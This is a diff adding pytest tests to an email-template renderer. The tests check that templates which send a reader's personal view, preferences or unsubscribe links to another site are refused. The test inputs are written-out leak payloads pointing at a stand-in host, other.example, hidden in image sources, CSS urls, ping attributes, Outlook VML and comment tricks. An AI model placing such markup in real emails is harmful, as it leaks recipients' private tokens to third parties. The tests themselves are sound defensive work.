@@ -210,3 +210,42 @@ def test_a_picture_that_a_template_loads_from_another_site_is_told() -> None:
 
     told = [each for each in found.findings if each.code == "template-picture-elsewhere"]
     assert [each.about for each in told] == ["i.imgur.com"]
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        '<img src="https://other.example/p.gif?{link}" alt="">',
+        '<a href="https://other.example/?{link}">x</a>',
+        "<style>p {{ background: url(https://other.example/{link}) }}</style>",
+        "<img src='https://other.example/?href=\"{link}\"' alt=''>",
+        '<a href="{link}" ping="https://other.example/{link}">x</a>',
+        "<!--[if mso]><v:rect href='https://other.example/{link}'></v:rect><![endif]-->",
+        "<!--> <img src='https://other.example/{link}'> -->",
+        "<a title='{link}' href='https://other.example'>x</a>",
+    ],
+)
+@pytest.mark.parametrize(
+    "link", ["slots.view_url", "slots.preferences_url", "marks.use('unsubscribe_url', '')"]
+)
+def test_a_readers_own_link_is_told_to_no_other_site(written: str, link: str) -> None:
+    raw = f"<mj-raw>{written.format(link='{{ ' + link + ' }}')}</mj-raw>\n</mj-body>"
+    with pytest.raises(TemplateError, match="own link"):
+        _render(replace(_LETTER, body=_LETTER.body.replace("</mj-body>", raw)))
+
+
+def test_a_readers_own_link_is_part_of_no_address_in_plain_text() -> None:
+    told = "\nhttps://other.example/?{{ slots.view_url }}\n"
+    with pytest.raises(TemplateError, match="own link") as refused:
+        _render(replace(_LETTER, text=_LETTER.text + told))
+    assert str(refused.value.place) == "Plain text"
+    _render(replace(_LETTER, text=_LETTER.text + "\nここから：{{ slots.view_url }}\n"))
+
+
+def test_a_readers_own_link_may_lead_to_a_part_of_its_page_also_in_outlook() -> None:
+    raw = (
+        "<mj-raw><!--[if mso]><v:rect href='{{ slots.view_url }}'></v:rect><![endif]-->"
+        "<a href='{{ slots.view_url }}#c1'>x</a></mj-raw></mj-body>"
+    )
+    rendered = _render(replace(_LETTER, body=_LETTER.body.replace("</mj-body>", raw)))
+    assert "href='https://ours/v/1'" in fill(rendered.html, {"view_url": "https://ours/v/1"})
